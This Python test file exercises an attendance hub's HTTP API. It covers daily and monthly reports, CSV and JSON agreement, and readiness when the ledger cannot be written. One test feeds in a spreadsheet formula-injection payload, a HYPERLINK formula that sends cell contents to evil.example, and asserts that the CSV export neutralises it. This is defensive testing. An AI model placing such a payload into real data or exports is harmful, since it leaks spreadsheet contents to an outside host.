"""Attendance over HTTP: a seeded ledger, an injected clock, JSON and CSV that agree."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path
from zoneinfo import ZoneInfo

import httpx

from hub.ledger.base import LedgerWrite
from hub.ledger.sqlite import SqliteLedger
from tests.kit import hub_settings, start_hub, stop_hub, wait_until

WIB = ZoneInfo("Asia/Jakarta")


def wib(day: int, hour: int, minute: int = 0) -> float:
    return dt.datetime(2026, 8, day, hour, minute, tzinfo=WIB).timestamp()


async def test_daily_and_monthly_reports_from_a_seeded_ledger(tmp_path: Path) -> None:
    settings = hub_settings(tmp_path, schedule={"workdays": ["mon", "tue", "wed", "thu", "fri"], "start": "08:00",
                                                 "end": "15:00", "grace_minutes": 15})
    now = wib(19, 18)  # Wednesday evening: the 18th is a finished workday
    running = await start_hub(settings, clock=lambda: now)
    ledger = running.hub.ledger.inner
    writes = [
        # 35.09.01: on time, live all day but a 30-minute drop at noon
        ("35.09.01", "online", wib(18, 7, 50), "hello"),
        ("35.09.01", "live", wib(18, 7, 55), "published"),
        ("35.09.01", "reconnecting", wib(18, 12, 0), "lost"),
        ("35.09.01", "live", wib(18, 12, 30), "heartbeat"),
        ("35.09.01", None, wib(18, 15, 5), "closed"),
        # 35.09.01.2001: late (09:00), then live until the end
        ("35.09.01.2001", "live", wib(18, 9, 0), "published"),
        ("35.09.01.2001", None, wib(18, 15, 0), "unpublished"),
        # an activity at the kecamatan office
        ("35.09.01", "activity:Musyawarah Desa", wib(18, 10, 0), "start"),
        ("35.09.01", "activity:", wib(18, 11, 0), "stop"),
    ]
    for station_id, state, at, reason in writes:
        if state and state.startswith("activity:"):
            await ledger.apply(LedgerWrite("activity", station_id, state.split(":", 1)[1] or None, at, reason))
        else:
            await ledger.apply(LedgerWrite("transition", station_id, state, at, reason))
    try:
        async with httpx.AsyncClient(base_url=running.http) as http:
            daily = (await http.get("/api/v1/attendance/daily?date=2026-08-18")).json()
            rows = {row["id"]: row for row in daily["rows"]}
            kantor = rows["35.09.01"]
            assert kantor["status"] == "hadir"
            assert kantor["first_online"] == "2026-08-18T07:50:00+07:00"
            assert kantor["live_s"] == 7 * 3600 - 1800
            assert kantor["online_s"] == 7 * 3600 - 1800
            assert kantor["interruptions"] == 1
            assert kantor["late_s"] == 0
            desa = rows["35.09.01.2001"]
            assert (desa["status"], desa["late_s"], desa["live_s"]) == ("terlambat", 3600, 6 * 3600)
            assert rows["35.09.02"]["status"] == "tidak hadir"
            assert "opd.bakesbangpol" not in rows
            holiday = (await http.get("/api/v1/attendance/daily?date=2026-08-16")).json()
            assert {row["status"] for row in holiday["rows"]} == {"libur"}

            as_csv = (await http.get("/api/v1/attendance/daily?date=2026-08-18&format=csv")).text
            table = {row["id"]: row for row in csv.DictReader(io.StringIO(as_csv))}
            assert set(table) == set(rows)
            for station_id, row in rows.items():
                assert table[station_id]["status"] == row["status"]
                assert float(table[station_id]["live_s"]) == row["live_s"]

            monthly = (await http.get("/api/v1/attendance/monthly?month=2026-08&group=kecamatan")).json()
            jombang = next(r for r in monthly["rows"] if r["kecamatan"] == "Jombang")
            assert jombang["stations"] == 3
            assert jombang["hadir"] == 1 and jombang["terlambat"] == 1
            assert jombang["live_s"] == kantor["live_s"] + desa["live_s"]

            activities = (await http.get("/api/v1/activities?date=2026-08-18")).json()["activities"]
            assert activities == [{"id": "35.09.01", "name": "Kecamatan Jombang", "title": "Musyawarah Desa",
                                   "start": "2026-08-18T10:00:00+07:00", "end": "2026-08-18T11:00:00+07:00",
                                   "live": False}]
    finally:
        await stop_hub(running)


async def test_unwritable_ledger_makes_hub_unready_keeps_presence_and_loses_nothing(tmp_path: Path) -> None:
    """SQLite's query_only pragma makes the real write path fail as a read-only data_dir would."""
    from tests.wsclient import Client, presence_of, station

    running = await start_hub(hub_settings(tmp_path, hub={"metrics_token": "scraper"}))
    try:
        ledger = running.hub.ledger.inner
        assert isinstance(ledger, SqliteLedger)
        database = ledger._db
        database.execute("PRAGMA query_only = 1")  # every write now fails inside SQLite
        watcher = await Client.open(f"{running.ws}/ws/watch")
        await watcher.recv()
        client, _ = await station(running.ws, "35.09.01", await running.token("35.09.01"))
        await watcher.recv_until(presence_of("35.09.01", "online"))  # presence still works
        async with httpx.AsyncClient(base_url=running.http) as http:
            async def readyz(status: int) -> httpx.Response | None:
                response = await http.get("/readyz")
                return response if response.status_code == status else None

            # The checkpoint timer notices.
            ready = await wait_until(lambda: readyz(503), 10, "/readyz to answer 503", every=0.05)
            assert ready.json()["checks"]["ledger"] is False
            scraper = {"Authorization": "Bearer scraper"}  # /metrics is not public (docs/security.md)
            assert "jaga_ledger_healthy 0.0" in (await http.get("/metrics", headers=scraper)).text
            await client.close()
            await watcher.recv_until(presence_of("35.09.01", "offline"))
            database.execute("PRAGMA query_only = 0")
            await wait_until(lambda: readyz(200), 10, "/readyz to answer 200 again", every=0.05)
        intervals = [i for i in await running.hub.ledger.inner.intervals(0, 2e9) if i.station == "35.09.01"]
        assert [(i.state, i.end_reason) for i in intervals] == [("online", "closed")]
    finally:
        await stop_hub(running)


async def test_csv_downloads_neutralise_formulas_in_station_text(tmp_path: Path) -> None:
    """A station's activity title is public open data: in CSV it must not run as a formula
    when a citizen opens the file in a spreadsheet; the JSON keeps the title as typed."""
    now = wib(19, 18)
    running = await start_hub(hub_settings(tmp_path), clock=lambda: now)
    title = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
    ledger = running.hub.ledger.inner
    await ledger.apply(LedgerWrite("activity", "35.09.01", title, wib(18, 10, 0), "start"))
    await ledger.apply(LedgerWrite("activity", "35.09.01", None, wib(18, 11, 0), "stop"))
    try:
        async with httpx.AsyncClient(base_url=running.http) as http:
            as_csv = await http.get("/api/v1/activities?date=2026-08-18&format=csv")
            assert as_csv.status_code == 200 and as_csv.headers["content-type"].startswith("text/csv")
            [row] = list(csv.DictReader(io.StringIO(as_csv.text)))
            assert row["title"] == "'" + title
            as_json = (await http.get("/api/v1/activities?date=2026-08-18")).json()
            assert [a["title"] for a in as_json["activities"]] == [title]
    finally:
        await stop_hub(running)
